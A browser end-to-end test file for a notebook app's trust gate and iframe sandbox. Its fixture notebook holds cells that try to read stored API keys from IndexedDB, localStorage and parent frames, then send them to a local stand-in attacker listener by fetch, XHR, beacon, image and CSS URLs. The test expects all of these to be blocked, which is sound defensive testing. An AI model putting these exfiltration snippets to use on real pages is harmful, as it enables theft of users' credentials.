import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { addEndpoint, startBrowserApp, stopBrowserApp } from './harness';
import { startTestServer, type TestServer } from '../server/test-server';

/**
 * Trust and the sandbox, as a user meets them: a notebook imported from a file does not run its
 * code until the user trusts it; once trusted, its cells run in the sandbox, where every way to
 * the stored keys and every way out to the network fails. A listener on 127.0.0.1 stands for
 * the attacker: it must receive nothing, and the key must appear nowhere in the page.
 */
const KEY = 'sk-LEAKCHECK-7f3a9b';

let llm: TestServer;
let app: { url: string; close(): Promise<void> };
let browser: Browser;
let page: Page;
let errors: string[];
let listener: Server;
let listenerUrl: string;
const received: string[] = [];

const cell = (name: string) => page.locator(`[data-cell-name="${name}"]`);
const chatCalls = () => llm.requests.filter((r) => r.path.endsWith('/chat/completions')).length;

/** A notebook whose cells try every way to the keys and out of the sandbox. */
function leakyNotebook(url: string): string {
  const fence = (kind: string, name: string, code: string) => `\`\`\`${kind} ${name}\n${code}\n\`\`\`\n`;
  return [
    '---\ntitle: Leaky notebook\n---\n',
    'A notebook that tries to steal your keys.\n',
    fence('query', 'twoPlusTwo', '2 + 2'),
    fence('query', 'origin', 'self.origin'),
    fence('query', 'fromIndexedDb', `await new Promise((resolve, reject) => {
  const open = indexedDB.open('motivelab');
  open.onerror = () => reject(open.error);
  open.onsuccess = () => {
    const q = open.result.transaction('endpoints').objectStore('endpoints').getAll();
    q.onsuccess = () => resolve(q.result.map((e) => e.apiKey).join(','));
    q.onerror = () => reject(q.error);
  };
})`),
    fence('query', 'fromLocalStorage', 'JSON.stringify({ ...localStorage })'),
    fence('query', 'fromParent', 'parent.document.body.innerText'),
    fence('query', 'fromTop', "JSON.stringify(await top.motivelab.cell('anything'))"),
    fence('query', 'loot', "'loot:' + [twoPlusTwo, origin].join(',')"),
    fence('query', 'viaFetch', `await fetch('${url}fetch?d=' + loot)`),
    fence('query', 'viaXhr', `await new Promise((resolve, reject) => {
  const x = new XMLHttpRequest();
  x.open('GET', '${url}xhr?d=' + loot);
  x.onload = () => resolve(x.status);
  x.onerror = () => reject(new Error('XMLHttpRequest failed'));
  x.send();
})`),
    fence('query', 'viaBeacon', `navigator.sendBeacon('${url}beacon', loot) ? 'queued' : 'refused'`),
    fence('query', 'viaImage', `await new Promise((resolve, reject) => {
  const img = new Image();
  img.onload = () => resolve('loaded');
  img.onerror = () => reject(new Error('image blocked'));
  img.src = '${url}image?d=' + loot;
})`),
    fence('plot', 'viaChart', `{
  const div = document.createElement('div');
  div.innerHTML = '<img src="${url}chart-img?d=' + loot + '"><svg><image href="${url}chart-svg"></image><rect style="fill: url(${url}chart-css)" width="5" height="5"></rect></svg><p style="background: url(${url}chart-bg)">x</p>';
  return div;
}`),
    fence('experiment', 'ratings', `{ endpoint: 'local', models: ['model-a'], tasks: ['Write a haiku'], prompt: 'Rate {{task}}', scale: { min: 1, max: 7 }, repetitions: 1 }`),
  ].join('\n');
}

beforeAll(async () => {
  llm = await startTestServer({ latencyMs: 5, models: ['model-a'], apiKey: KEY });
  listener = createServer((req, res) => {
    received.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok');
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
  listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/`;
  ({ app, browser, page, errors } = await startBrowserApp());
});

afterAll(async () => {
  await stopBrowserApp({ app, browser });
  await llm?.close();
  await new Promise((r) => listener?.close(r));
});

/** Everything the page shows, in every frame, as text and HTML. */
async function everythingShown(p: Page): Promise<string> {
  const parts: string[] = [];
  for (const frame of p.frames()) parts.push(await frame.content().catch(() => ''));
  parts.push(await p.evaluate(() => document.body.innerText));
  return parts.join('\n');
}

/** Imports a notebook file as a user does, with Import notebook on the list; the app opens it. */
async function importNotebook(p: Page, text: string, name: string): Promise<void> {
  const title = /^title: (.*)$/m.exec(text)![1];
  await p.getByTestId('import-notebook').setInputFiles({ name, mimeType: 'text/markdown', buffer: Buffer.from(text) });
  await p.waitForFunction((t) => (document.querySelector('[aria-label="Notebook title"]') as HTMLInputElement | null)?.value === t, title);
}

describe('trust and the sandbox in Chromium', () => {
  it('keeps an imported notebook from running until trusted', async () => {
    await page.goto(app.url);
    await addEndpoint(page, { name: 'local', baseURL: llm.url, apiKey: KEY });

    await page.getByRole('link', { name: 'Notebooks' }).click();
    await importNotebook(page, leakyNotebook(listenerUrl), 'leaky.md');
    await page.getByRole('region', { name: 'Untrusted notebook' }).getByText('the file leaky.md').waitFor();
    // Markdown renders; no code cell has run.
    await page.getByText('A notebook that tries to steal your keys.').waitFor();
    for (const name of ['twoPlusTwo', 'fromIndexedDb', 'viaFetch', 'viaChart', 'ratings']) {
      await cell(name).getByText('Not run: this notebook came from the file leaky.md; Trust to run its code.').waitFor();
      expect(await cell(name).getAttribute('data-status'), name).toBe('idle');
    }
    // Its experiment cannot be run.
    expect(await cell('ratings').getByTestId('run-experiment').isDisabled()).toBe(true);
    expect(chatCalls()).toBe(0);
    expect(received).toEqual([]);
  });

  it('runs the trusted notebook in the sandbox, where the keys and the network are out of reach', async () => {
    await page.getByTestId('review-trust').click();
    await page.getByTestId('trust-source').getByText('the file leaky.md').waitFor();
    await page.getByTestId('trust').click();
    await cell('twoPlusTwo').locator('.value-preview').filter({ hasText: '4' }).waitFor();
    await cell('origin').locator('.value-preview').filter({ hasText: '"null"' }).waitFor();
    const expectError = async (name: string, message: RegExp) => {
      await cell(name).locator('.cell-error').waitFor();
      expect(await cell(name).locator('.cell-error').innerText(), name).toMatch(message);
    };
    await expectError('fromIndexedDb', /SecurityError|sandboxed|denied/i);
    await expectError('fromLocalStorage', /SecurityError|sandboxed|denied/i);
    await expectError('fromParent', /cross-origin|Blocked a frame/i);
    await expectError('fromTop', /cross-origin|Blocked a frame|undefined/i);
    await expectError('viaFetch', /Failed to fetch/);
    await expectError('viaXhr', /XMLHttpRequest failed/);
    // Chromium queues a beacon and refuses it later, by the sandbox's CSP: the listener below proves nothing left.
    await cell('viaBeacon').locator('.value-preview').waitFor();
    await expectError('viaImage', /image blocked/);
    // The chart is shown, stripped of every URL that would make the page fetch something.
    await cell('viaChart').locator('.dom-view svg').waitFor();
    expect(await cell('viaChart').locator('.dom-view').innerHTML()).not.toContain(listenerUrl);
    // The experiment's design is evaluated now, and it can run (only the runner calls the endpoint).
    await cell('ratings').getByText(/calls planned/).waitFor();
    await cell('ratings').getByTestId('run-experiment').click();
    // Its first paid call on the viewer's key asks first, showing the plan; nothing is sent before.
    const ask = page.getByTestId('paid-call-dialog');
    await ask.getByRole('heading', { name: 'Send 1 call on your endpoints?' }).waitFor();
    expect(await ask.locator('tbody td').allInnerTexts()).toEqual(['ratings', `local (${llm.url})`, 'model-a', '1', expect.stringMatching(/^\d[\d,]*$/), 'cost unknown']);
    expect(chatCalls()).toBe(0);
    await page.getByTestId('paid-call-confirm').click();
    await cell('ratings').locator('tbody tr').first().waitFor();
    expect(chatCalls()).toBe(1);

    await page.waitForTimeout(1500);
    expect(received).toEqual([]);
    expect(await everythingShown(page)).not.toContain(KEY);
    expect(await page.evaluate(() => document.querySelector('iframe.sandbox-frame')?.getAttribute('sandbox'))).toBe('allow-scripts');
    // The only console errors are the sandbox's CSP refusals.
    expect(errors.filter((e) => !/Content Security Policy|ERR_BLOCKED|Failed to load resource/.test(e))).toEqual([]);
  });

  it('remembers the trust decision after a reload, and keeps it through the user\'s own edits', async () => {
    await page.reload();
    await cell('twoPlusTwo').locator('.value-preview').filter({ hasText: '4' }).waitFor();
    expect(await page.getByRole('region', { name: 'Untrusted notebook' }).count()).toBe(0);
    const editor = cell('twoPlusTwo').locator('.cm-content');
    await editor.click();
    await page.keyboard.press('ControlOrMeta+a');
    await page.keyboard.insertText('40 + 2');
    await page.keyboard.press('Shift+Enter');
    await cell('twoPlusTwo').locator('.value-preview').filter({ hasText: '42' }).waitFor();
    await page.reload();
    await cell('twoPlusTwo').locator('.value-preview').filter({ hasText: '42' }).waitFor();
    expect(await page.getByRole('region', { name: 'Untrusted notebook' }).count()).toBe(0);
  });

  it('computes in its own process: a cell busy for 1.5 s leaves the page responsive', async () => {
    await page.getByRole('link', { name: 'Notebooks' }).click();
    await importNotebook(page, '---\ntitle: Busy notebook\n---\n\n```query spin\n{\n  const t = Date.now();\n  while (Date.now() - t < 1500);\n  return "done";\n}\n```\n', 'busy.md');
    await page.getByTestId('review-trust').click();
    await page.getByTestId('trust').waitFor();
    // The page's own timer, every 10 ms, while the sandbox spins.
    await page.evaluate(() => {
      const w = window as unknown as { maxGap: number; gapTimer: number };
      let last = performance.now();
      w.maxGap = 0;
      w.gapTimer = window.setInterval(() => {
        const now = performance.now();
        w.maxGap = Math.max(w.maxGap, now - last);
        last = now;
      }, 10);
    });
    await page.getByTestId('trust').click();
    await cell('spin').locator('.value-preview').filter({ hasText: 'done' }).waitFor();
    const maxGap = await page.evaluate(() => {
      const w = window as unknown as { maxGap: number; gapTimer: number };
      clearInterval(w.gapTimer);
      return w.maxGap;
    });
    expect(maxGap).toBeLessThan(400);
  });

  it('does not trust another imported notebook, even one with the same cells under another title', async () => {
    await page.getByRole('link', { name: 'Notebooks' }).click();
    await importNotebook(page, leakyNotebook(listenerUrl).replace('title: Leaky notebook', 'title: Leaky again'), 'again.md');
    await page.getByRole('region', { name: 'Untrusted notebook' }).waitFor();
    await cell('ratings').getByText(/Not run: this notebook came from the file again.md/).waitFor();
    expect(await cell('ratings').getByTestId('run-experiment').isDisabled()).toBe(true);
    expect(chatCalls()).toBe(1);
    expect(received).toEqual([]);
  });
});
